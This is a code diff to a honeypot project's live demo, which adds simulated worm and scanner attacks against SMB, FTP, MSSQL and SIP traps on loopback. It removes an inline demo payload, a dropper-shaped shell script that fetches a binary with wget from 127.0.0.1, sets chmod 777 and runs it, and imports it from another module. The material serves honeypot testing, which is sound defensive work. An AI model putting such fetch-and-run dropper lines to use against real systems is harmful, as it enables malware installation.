@@ -6,7 +6,9 @@ real SSH client (asyncssh) and a raw Telnet client — brute-forces it, logs in,
 runs the commands bots run and fetches a "payload" from a throw-away HTTP
 server on loopback, so the download capture has something to catch; then the
 web, Redis, Docker and Elasticsearch traps get the exploits that drop malware
-(:mod:`honeyfarm.demo.exploits`), whose URLs the traps fetch the same way. Then the
+(:mod:`honeyfarm.demo.exploits`), whose URLs the traps fetch the same way, and the
+SMB, FTP, MSSQL and SIP traps what worms and scanners do to them
+(:mod:`honeyfarm.demo.services`). Then the
 spool is ingested into the demo lake like any sensor's spool. With
 ``--duration N`` the traps stay up N seconds for you to try by hand
 (``ssh -p PORT root@127.0.0.1``, ``telnet 127.0.0.1 PORT``).
@@ -25,16 +27,10 @@ from rich.console import Console
 
 from honeyfarm.config import Config
 from honeyfarm.demo.exploits import attack_all
+from honeyfarm.demo.payload import PAYLOAD
+from honeyfarm.demo.services import attack_services
 from honeyfarm.sensor.config import SensorConfig
 from honeyfarm.sensor.runtime import Sensor
-
-#: What the demo's attacker "drops": a harmless script shaped like the droppers bots fetch (walk to a writable
-#: directory, fetch, chmod, run), so the scanners have something to flag. Nothing ever runs it.
-PAYLOAD = (
-    b"#!/bin/sh\n# honeyfarm demo payload: harmless text served from loopback; honeyfarm never runs what it catches\n"
-    b"cd /tmp || cd /var/run || cd /mnt\n"
-    b"wget http://127.0.0.1/demo.x86 -O demo.x86; chmod 777 demo.x86; ./demo.x86 honeyfarm.demo\n"
-)
 
 
 def _port(preferred: int) -> int:
@@ -49,7 +45,13 @@ def _port(preferred: int) -> int:
 def demo_sensor_config(
     workdir: Path, ssh_port: int, telnet_port: int, exploit_ports: dict[str, int] | None = None
 ) -> SensorConfig:
-    traps = {name: {"enabled": True, "listen": [f"127.0.0.1:{port}"]} for name, port in (exploit_ports or {}).items()}
+    traps: dict[str, dict[str, Any]] = {
+        name: {"enabled": True, "listen": [f"127.0.0.1:{port}"]} for name, port in (exploit_ports or {}).items()
+    }
+    if "smb" in traps:
+        traps["smb"]["netbios_listen"] = []
+    if "sip" in traps:
+        traps["sip"]["tcp_listen"] = traps["sip"]["listen"]
     return SensorConfig.model_validate(
         {
             "identity": {"name": "live-demo", "region": "loopback", "provider": "local", "tags": {"exposure": "ip"}},
@@ -151,7 +153,8 @@ def run_live(cfg: Config, workdir: Path, duration: float, out: Console) -> Path:
     """Run the traps, attack them, return the spool directory (to ingest)."""
     ssh_port, telnet_port = _port(2222), _port(2323)
     exploit_ports = {"http": _port(8080), "redis": _port(6379), "docker": _port(2375), "elasticsearch": _port(9200)}
-    scfg = demo_sensor_config(workdir, ssh_port, telnet_port, exploit_ports)
+    service_ports = {"smb": _port(4445), "ftp": _port(2121), "mssql": _port(1433), "sip": _port(5060)}
+    scfg = demo_sensor_config(workdir, ssh_port, telnet_port, exploit_ports | service_ports)
 
     def log(msg: str) -> None:
         out.print(msg, markup=False, highlight=False)
@@ -167,6 +170,8 @@ def run_live(cfg: Config, workdir: Path, duration: float, out: Console) -> Path:
             await asyncio.wait_for(_telnet_attack(telnet_port), 30)
             log("exploits: " + ", ".join(f"{k} 127.0.0.1:{v}" for k, v in exploit_ports.items()))
             await attack_all(exploit_ports, http_port, log)
+            log("worms and scanners: " + ", ".join(f"{k} 127.0.0.1:{v}" for k, v in service_ports.items()))
+            await attack_services(service_ports, log)
             await _downloads_settle(sensor)
             if duration:
                 log(f"traps stay up {duration:.0f} s for you to try (Ctrl-C ends early)")
